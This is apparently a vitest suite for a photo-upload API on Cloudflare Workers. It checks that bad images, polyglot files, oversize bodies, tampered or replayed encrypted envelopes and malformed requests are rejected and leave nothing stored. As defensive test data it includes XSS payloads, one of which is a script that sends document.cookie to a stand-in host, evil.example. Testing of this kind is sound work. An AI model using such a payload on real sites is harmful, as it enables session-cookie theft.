/**
 * Issue 3, bad input and attacks on POST /v1/photos: each gets a clear 4xx
 * problem and leaves nothing behind (no R2 object, no key file, no row).
 */
import { env } from "cloudflare:test";
import { zipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { securityLog } from "../../worker/db/schema";
import { sealUpload } from "../../worker/lib/upload-envelope";
import { getObject } from "../../worker/services/storage";
import { validateImage } from "../../worker/services/image";
import { gif, hugeHeaderPng, jpegWithExif, pngWithText, svg, tinyPng, webpWithExif } from "../fixtures/images";
import { api, expectProblem, json, services, signIn } from "../helpers";
import { ascii, bytesOf, indexOf, newUploadId, objectRows, post, r2Keys, ringPublicKey, seal, uploadKey } from "./helpers";

const CAP = Number(env.MAX_UPLOAD_BYTES);

/**
 * Runs `act`, then asserts R2 objects and the objects table are exactly as
 * before. Key files are left out: `act` signs in, and the first sign-in makes
 * the data key that seals the user's D1 fields (decision 0012).
 */
async function leavesNothing(act: () => Promise<void>): Promise<void> {
  const dataKeys = async () => (await r2Keys()).filter((k) => !k.startsWith("keys/"));
  const keysBefore = await dataKeys();
  const rowsBefore = await objectRows();
  await act();
  expect(await dataKeys()).toEqual(keysBefore);
  expect(await objectRows()).toBe(rowsBefore);
}

async function sealedPost(user: string, bytes: Uint8Array, type: string): Promise<Response> {
  const userId = await signIn(user);
  const sealed = await seal(userId, bytes);
  return post(user, sealed.envelope, { uploadId: sealed.uploadId, type });
}

describe("intake: bad images (400 invalid_image, nothing stored)", () => {
  // "carol" uploads nothing that succeeds, so no object may ever appear for her.
  const user = "carol";

  it.each([
    ["truncated JPEG", () => bytesOf(jpegWithExif).subarray(0, 15_000), "image/jpeg", "truncated"],
    ["JPEG cut just before its end marker", () => bytesOf(jpegWithExif).subarray(0, bytesOf(jpegWithExif).length - 2), "image/jpeg", "truncated"],
    ["truncated PNG", () => bytesOf(pngWithText).subarray(0, 20_000), "image/png", "truncated"],
    ["truncated WebP", () => bytesOf(webpWithExif).subarray(0, 5_000), "image/webp", "truncated"],
    [
      "PNG with a corrupted chunk (CRC mismatch)",
      () => {
        const b = bytesOf(pngWithText).slice();
        b[45] = (b[45] ?? 0) ^ 0xff; // inside the zTXt data, after IHDR
        return b;
      },
      "image/png",
      "malformed",
    ],
    ["PNG declared as JPEG (wrong magic for the declared type)", () => bytesOf(pngWithText), "image/jpeg", "type_mismatch"],
    ["WebP declared as PNG", () => bytesOf(webpWithExif), "image/png", "type_mismatch"],
    ["a GIF", () => bytesOf(gif), "image/jpeg", "unsupported_type"],
    ["an SVG with a script", () => bytesOf(svg), "image/png", "unsupported_type"],
    ["an HTML page", () => ascii("<!doctype html><html><body><script>alert(1)</script></body></html>"), "image/jpeg", "unsupported_type"],
    ["random bytes", () => crypto.getRandomValues(new Uint8Array(4096)), "image/jpeg", "unsupported_type"],
    ["a PNG header claiming 30000 x 30000", () => bytesOf(hugeHeaderPng), "image/png", "too_large"],
    ["a 1x1 image", () => bytesOf(tinyPng), "image/png", "too_small"],
    ["a photo of zero bytes", () => new Uint8Array(0), "image/jpeg", "empty"],
  ])("%s", async (_name, make, type, reason) => {
    await leavesNothing(async () => {
      const body = await expectProblem(await sealedPost(user, make(), type), 400, "invalid_image");
      expect(body["reason"]).toBe(reason);
      expect(String(body["detail"]).length).toBeGreaterThan(10);
    });
  });

  it("a declared type outside JPEG/PNG/WebP is refused by header validation", async () => {
    await leavesNothing(async () => {
      const body = await expectProblem(await sealedPost(user, bytesOf(gif), "image/gif"), 400, "validation_failed");
      expect(JSON.stringify(body["errors"])).toContain("x-upload-content-type");
    });
  });

  it("nothing was stored in R2 for a user whose every upload was refused", async () => {
    const userId = await signIn(user);
    // The data key itself exists since sign-in (it seals the email and audit entries in D1), in the key bucket only.
    expect((await env.BUCKET.list({ prefix: `u/${userId}/` })).objects).toEqual([]);
    expect(await env.BUCKET.head(`keys/${userId}`)).toBeNull();
  });
});

describe("intake: polyglots are accepted without their payload", () => {
  it.each([
    ["JPEG + ZIP", zipSync({ "evil.txt": ascii("payload ".repeat(50)) })],
    ["JPEG + HTML", ascii("<html><script>fetch('https://evil.example/'+document.cookie)</script></html>")],
  ])("%s: stored copy ends at the JPEG end marker", async (_name, payload) => {
    const jpeg = bytesOf(jpegWithExif);
    const polyglot = new Uint8Array(jpeg.length + payload.length);
    polyglot.set(jpeg, 0);
    polyglot.set(payload, jpeg.length);
    const userId = await signIn("alice");
    const sealed = await seal(userId, polyglot);
    const res = await post("alice", sealed.envelope, { uploadId: sealed.uploadId });
    expect(res.status).toBe(201);
    const { id } = await json<{ id: string }>(res);
    const stored = (await getObject(services(), userId, id))?.bytes ?? new Uint8Array();
    const clean = validateImage(jpeg, "image/jpeg");
    expect(clean.ok).toBe(true);
    expect(stored).toEqual(clean.ok ? clean.value.bytes : null);
    expect(Array.from(stored.subarray(-2))).toEqual([0xff, 0xd9]);
    expect(indexOf(stored, payload.subarray(0, 16))).toBe(-1);
    expect(indexOf(stored, ascii("PK\u0003\u0004"))).toBe(-1);
    expect(indexOf(stored, ascii("<script"))).toBe(-1);
  });
});

describe("intake: size cap (413 before reading, and while reading)", () => {
  it("a Content-Length over the cap is refused with 413", async () => {
    await leavesNothing(async () => {
      const userId = await signIn("bob");
      const big = new Uint8Array(CAP + 1);
      const sealedHead = await seal(userId, new Uint8Array(10));
      big.set(sealedHead.envelope.subarray(0, 80), 0);
      const body = await expectProblem(await post("bob", big, { uploadId: sealedHead.uploadId }), 413, "payload_too_large");
      expect(String(body["detail"])).toContain(String(CAP));
    });
  });

  it("the body is not read when Content-Length is over the cap", async () => {
    let pulled = 0;
    const stream = new ReadableStream<Uint8Array>(
      {
        pull(controller) {
          pulled++;
          if (pulled > 20) controller.close();
          else controller.enqueue(new Uint8Array(1024 * 1024));
        },
      },
      { highWaterMark: 0 },
    );
    await signIn("bob");
    const res = await post("bob", stream, { uploadId: newUploadId(), headers: { "content-length": String(CAP + 1) } });
    await expectProblem(res, 413, "payload_too_large");
    expect(pulled).toBeLessThanOrEqual(2);
  });

  it("a chunked body without Content-Length under the cap is accepted (split across many small chunks)", async () => {
    const userId = await signIn("bob");
    const sealed = await seal(userId, bytesOf(jpegWithExif));
    let off = 0;
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (off >= sealed.envelope.length) return controller.close();
        const take = off < 100 ? 7 : 4096;
        controller.enqueue(sealed.envelope.slice(off, off + take));
        off += take;
      },
    });
    const res = await post("bob", stream, { uploadId: sealed.uploadId });
    expect(res.status).toBe(201);
    const { id } = await json<{ id: string }>(res);
    const clean = validateImage(bytesOf(jpegWithExif), "image/jpeg");
    expect((await getObject(services(), userId, id))?.bytes).toEqual(clean.ok ? clean.value.bytes : null);
  });

  it("a chunked body without Content-Length is cut off at the cap with 413", async () => {
    await leavesNothing(async () => {
      const userId = await signIn("bob");
      const sealed = await seal(userId, new Uint8Array(10));
      let sent = 0;
      const stream = new ReadableStream<Uint8Array>({
        pull(controller) {
          if (sent === 0) {
            controller.enqueue(sealed.envelope.slice(0, 80));
            sent += 80;
          } else if (sent > CAP + 4 * 1024 * 1024) controller.close();
          else {
            controller.enqueue(new Uint8Array(1024 * 1024));
            sent += 1024 * 1024;
          }
        },
      });
      await expectProblem(await post("bob", stream, { uploadId: sealed.uploadId }), 413, "payload_too_large");
    });
  });
});

describe("intake: envelope attacks (400, nothing stored)", () => {
  it("an empty body", async () => {
    await leavesNothing(async () => {
      await signIn("bob");
      await expectProblem(await post("bob", new Uint8Array(0), { uploadId: newUploadId() }), 400, "invalid_envelope");
    });
  });

  it("a raw JPEG instead of an envelope", async () => {
    await leavesNothing(async () => {
      await signIn("bob");
      await expectProblem(await post("bob", bytesOf(jpegWithExif), { uploadId: newUploadId() }), 400, "invalid_envelope");
    });
  });

  it.each([
    ["a flipped ciphertext byte", (e: Uint8Array) => e.length - 100],
    ["a flipped tag byte", (e: Uint8Array) => e.length - 1],
    ["a flipped encapsulated-key byte", (_e: Uint8Array) => 12 + "hpke-test-2".length + 10],
  ])("tampered: %s", async (_name, where) => {
    await leavesNothing(async () => {
      const userId = await signIn("bob");
      const sealed = await seal(userId, bytesOf(jpegWithExif));
      const i = where(sealed.envelope);
      sealed.envelope[i] = (sealed.envelope[i] ?? 0) ^ 0x01;
      await expectProblem(await post("bob", sealed.envelope, { uploadId: sealed.uploadId }), 400, "invalid_envelope");
    });
  });

  it("a truncated envelope", async () => {
    await leavesNothing(async () => {
      const userId = await signIn("bob");
      const sealed = await seal(userId, bytesOf(jpegWithExif));
      await expectProblem(await post("bob", sealed.envelope.subarray(0, 70), { uploadId: sealed.uploadId }), 400, "invalid_envelope");
      await expectProblem(await post("bob", sealed.envelope.subarray(0, sealed.envelope.length - 1), { uploadId: sealed.uploadId }), 400, "invalid_envelope");
    });
  });

  it("alice's envelope replayed with bob's token", async () => {
    const aliceId = await signIn("alice");
    await signIn("bob");
    const sealed = await seal(aliceId, bytesOf(jpegWithExif));
    await leavesNothing(async () => {
      await expectProblem(await post("bob", sealed.envelope, { uploadId: sealed.uploadId }), 400, "invalid_envelope");
    });
    // ...and after alice stored it, bob's replay still cannot open it (not a 409 that would confirm it exists).
    expect((await post("alice", sealed.envelope, { uploadId: sealed.uploadId })).status).toBe(201);
    await leavesNothing(async () => {
      await expectProblem(await post("bob", sealed.envelope, { uploadId: sealed.uploadId }), 400, "invalid_envelope");
    });
  });

  it("an envelope sent under another upload id", async () => {
    await leavesNothing(async () => {
      const userId = await signIn("bob");
      const sealed = await seal(userId, bytesOf(jpegWithExif));
      await expectProblem(await post("bob", sealed.envelope, { uploadId: newUploadId() }), 400, "invalid_envelope");
    });
  });

  it("the same envelope twice: 409 the second time, one object", async () => {
    const userId = await signIn("bob");
    const sealed = await seal(userId, bytesOf(jpegWithExif));
    expect((await post("bob", sealed.envelope, { uploadId: sealed.uploadId })).status).toBe(201);
    await leavesNothing(async () => {
      await expectProblem(await post("bob", sealed.envelope, { uploadId: sealed.uploadId }), 409, "conflict");
    });
  });

  it("an unknown key id (a key that was never in the ring, or was retired)", async () => {
    const pair = (await crypto.subtle.generateKey({ name: "ECDH", namedCurve: "P-256" }, true, ["deriveBits"])) as CryptoKeyPair;
    const publicJwk = (await crypto.subtle.exportKey("jwk", pair.publicKey)) as JsonWebKey;
    await leavesNothing(async () => {
      const userId = await signIn("bob");
      const sealed = await seal(userId, bytesOf(jpegWithExif), { keyId: "hpke-retired-2020", publicJwk });
      const body = await expectProblem(await post("bob", sealed.envelope, { uploadId: sealed.uploadId }), 400, "unknown_key");
      expect(String(body["detail"])).toContain("hpke-retired-2020");
    });
  });

  it("an envelope sealed to a ring key's id but with another public key", async () => {
    const pair = (await crypto.subtle.generateKey({ name: "ECDH", namedCurve: "P-256" }, true, ["deriveBits"])) as CryptoKeyPair;
    const publicJwk = (await crypto.subtle.exportKey("jwk", pair.publicKey)) as JsonWebKey;
    await leavesNothing(async () => {
      const userId = await signIn("bob");
      const { keyId } = await uploadKey();
      const sealed = await seal(userId, bytesOf(jpegWithExif), { keyId, publicJwk });
      await expectProblem(await post("bob", sealed.envelope, { uploadId: sealed.uploadId }), 400, "invalid_envelope");
    });
  });

  it("X-Upload-Key-Id that disagrees with the envelope", async () => {
    await leavesNothing(async () => {
      const userId = await signIn("bob");
      const sealed = await seal(userId, bytesOf(jpegWithExif));
      const res = await post("bob", sealed.envelope, { uploadId: sealed.uploadId, headers: { "x-upload-key-id": "hpke-test-1" } });
      await expectProblem(res, 400, "invalid_envelope");
    });
  });

  it("failures are in the security log with a reason, without envelope bytes", async () => {
    const all = await services().db.select().from(securityLog).all();
    const reasons = all.map((r) => (JSON.parse(r.detail ?? "{}") as { reason?: string }).reason);
    expect(reasons).toContain("upload-envelope:open_failed");
    expect(reasons).toContain("upload-envelope:unknown_key");
    for (const r of all) expect(r.detail ?? "").not.toMatch(/[A-Za-z0-9+/]{100,}/);
  });
});

describe("intake: request shape", () => {
  it("missing X-Upload-Id, a malformed one, or a wrong Content-Type", async () => {
    await leavesNothing(async () => {
      const userId = await signIn("bob");
      const sealed = await seal(userId, bytesOf(jpegWithExif));
      const noId = await api("/v1/photos", {
        method: "POST",
        user: "bob",
        body: sealed.envelope,
        headers: { "content-type": "application/octet-stream", "x-upload-content-type": "image/jpeg" },
      });
      const missing = await expectProblem(noId, 400, "validation_failed");
      expect(JSON.stringify(missing["errors"])).toContain("x-upload-id");
      await expectProblem(await post("bob", sealed.envelope, { uploadId: "short" }), 400, "validation_failed");
      await expectProblem(await post("bob", sealed.envelope, { uploadId: sealed.uploadId, headers: { "content-type": "image/jpeg" } }), 415, "unsupported_media_type");
    });
  });

  it("no credentials: 401 before anything is read", async () => {
    await leavesNothing(async () => {
      const res = await api("/v1/photos", { method: "POST", body: new Uint8Array(100), headers: { "content-type": "application/octet-stream" } });
      await expectProblem(res, 401, "unauthorized");
    });
  });

  it("sealUpload refuses a malformed binding instead of producing an unopenable envelope", async () => {
    const key = ringPublicKey("hpke-test-2");
    await expect(sealUpload({ publicJwk: key, keyId: "hpke-test-2", userId: "usr|x", uploadId: newUploadId(), bytes: new Uint8Array(1) })).rejects.toThrow();
    await expect(sealUpload({ publicJwk: key, keyId: "hpke-test-2", userId: "usr_x", uploadId: "short", bytes: new Uint8Array(1) })).rejects.toThrow();
  });
});
